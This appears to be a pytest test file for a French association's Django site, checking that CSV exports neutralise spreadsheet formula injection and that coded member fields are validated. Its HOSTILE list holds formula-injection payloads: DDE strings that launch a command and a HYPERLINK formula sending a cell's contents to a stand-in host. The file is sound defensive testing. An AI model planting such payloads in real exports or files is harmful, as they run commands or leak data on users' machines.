"""Issue 9, §4: no CSV the site produces hands Excel a formula. Text cells that
start like a formula get a leading apostrophe (OWASP); numbers stay numbers,
written the French way."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from rfve_site.csv_export import cell, write_csv
from tests.factories import DuesCallFactory, LocalAuthorityFactory, MemberFactory

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Villeurbanne", "Villeurbanne"),
        ("Saint-Étienne = ville", "Saint-Étienne = ville"),
        ("", ""),
        (None, ""),
        (Decimal("1234.50"), "1234,50"),
        (Decimal("-12.50"), "-12,50"),  # a number, not a formula
        (-3, "-3"),
        (2027, "2027"),
        (dt.date(2027, 3, 31), "31/03/2027"),
    ],
)
def test_other_cells(value, expected):
    assert cell(value) == expected


def test_file_for_french_excel():
    out = io.StringIO(newline="")
    write_csv(out, ["Ville", "Montant (€)"], [["=1+1", Decimal("900.00")]])
    assert out.getvalue() == "\ufeffVille;Montant (€)\r\n'=1+1;900,00\r\n"


@pytest.mark.django_db
def test_treasury_csv_neutralises_what_the_secretariat_typed(admin_client):
    """A name and a SIRET as they may be saved (imported, typed before the
    validators existed) come out inert; amounts are still numbers."""
    member = MemberFactory(
        authority=LocalAuthorityFactory(name=HOSTILE[0]), siret="=1+1"
    )
    DuesCallFactory(member=member, amount=Decimal("900.00"))

    response = admin_client.get(
        reverse("admin:dues_duescall_treasury_csv"), {"annee": 2027}
    )

    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][1] == "'" + HOSTILE[0]
    assert rows[1][3] == "'=1+1"
    # Amount, credit notes, paid, left to pay.
    assert rows[1][7:11] == ["900,00", "0,00", "0,00", "900,00"]


def test_every_csv_writer_goes_through_the_helper():
    """Later exports (registrations…) must reuse rfve_site/csv_export.py. The
    commune reference file is data for the site itself, not for Excel."""
    allowed = {Path("rfve_site/csv_export.py"), Path("members/communes.py")}
    root = Path(settings.BASE_DIR)
    writers = {
        path.relative_to(root)
        for folder in ["rfve_site", "calendar_app", "members", "pages"]
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    }
    assert writers <= allowed


# --- Coded fields are validated at input --------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("siret", "=HYPERLINK(1)"),
        ("siret", "2169012310001"),  # 13 digits
        ("siret", "216 901 231 00011"),
        ("siret", "21690123100012"),  # wrong key
        ("chorus_service_code", "=1+1"),
        ("chorus_service_code", "-SERVICE"),
        ("finance_contact_phone", "+33 =1+1"),
        ("finance_contact_phone", "04 72 10"),
    ],
)
@pytest.mark.django_db
def test_member_coded_fields_are_refused(field, value):
    from django.core.exceptions import ValidationError

    member = MemberFactory(authority=LocalAuthorityFactory(siren="216901231"))
    setattr(member, field, value)
    with pytest.raises(ValidationError) as error:
        member.full_clean()
    assert list(error.value.message_dict) == [field]


@pytest.mark.django_db
def test_valid_coded_fields_pass():
    lyon = LocalAuthorityFactory(
        code="69123", siren="216901231", postcodes="69001 69002"
    )
    member = MemberFactory(
        authority=lyon,
        siret="21690123100011",
        chorus_service_code="SF_DRH-01",
        finance_contact_phone="+33 4 72 10 30 30",
    )
    member.full_clean()
    lyon.full_clean()
    for phone in ["04 72 10 30 30", "0472103030", "04.72.10.30.30", "+32 2 555 12 12"]:
        member.finance_contact_phone = phone
        member.full_clean()


@pytest.mark.django_db
def test_a_members_siret_belongs_to_its_authority():
    member = MemberFactory(authority=LocalAuthorityFactory(siren="216901231"))
    member.siret = "21420218600018"  # Saint-Étienne's SIREN

    with pytest.raises(Exception, match="doit commencer par son SIREN, 216901231"):
        member.full_clean()


@pytest.mark.parametrize(
    ("value", "valid"),
    [("35600000000056", True), ("35600000000057", False)],
)
def test_la_poste_sirets_follow_their_own_rule(value, valid):
    from django.core.exceptions import ValidationError

    from members.validators import validate_siret

    if valid:
        validate_siret(value)
    else:
        with pytest.raises(ValidationError):
            validate_siret(value)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("code", "6912"),
        ("code", "=1+1"),
        ("siren", "216901232"),
        ("postcodes", "69 001"),
    ],
)
@pytest.mark.django_db
def test_reference_codes_are_checked(field, value):
    from django.core.exceptions import ValidationError

    authority = LocalAuthorityFactory()
    setattr(authority, field, value)
    with pytest.raises(ValidationError) as error:
        authority.full_clean()
    assert field in error.value.message_dict


@pytest.mark.django_db
def test_admin_answers_a_formula_siret_in_french(admin_client):
    from tests.members.test_groups import change_form_data

    member = MemberFactory()
    url = reverse("admin:members_member_change", args=[member.pk])
    data = change_form_data(admin_client, url)
    data["siret"] = '=HYPERLINK("https://example.org")'[:14]

    response = admin_client.post(url, data)

    assert response.status_code == 200
    assert "Un SIRET compte 14 chiffres" in response.content.decode()
    member.refresh_from_db()
    assert member.siret != data["siret"]


@pytest.mark.django_db
def test_person_phone_is_checked():
    from django.core.exceptions import ValidationError

    from tests.factories import PersonFactory

    person = PersonFactory(phone="@SUM(1)")
    with pytest.raises(ValidationError):
        person.full_clean()
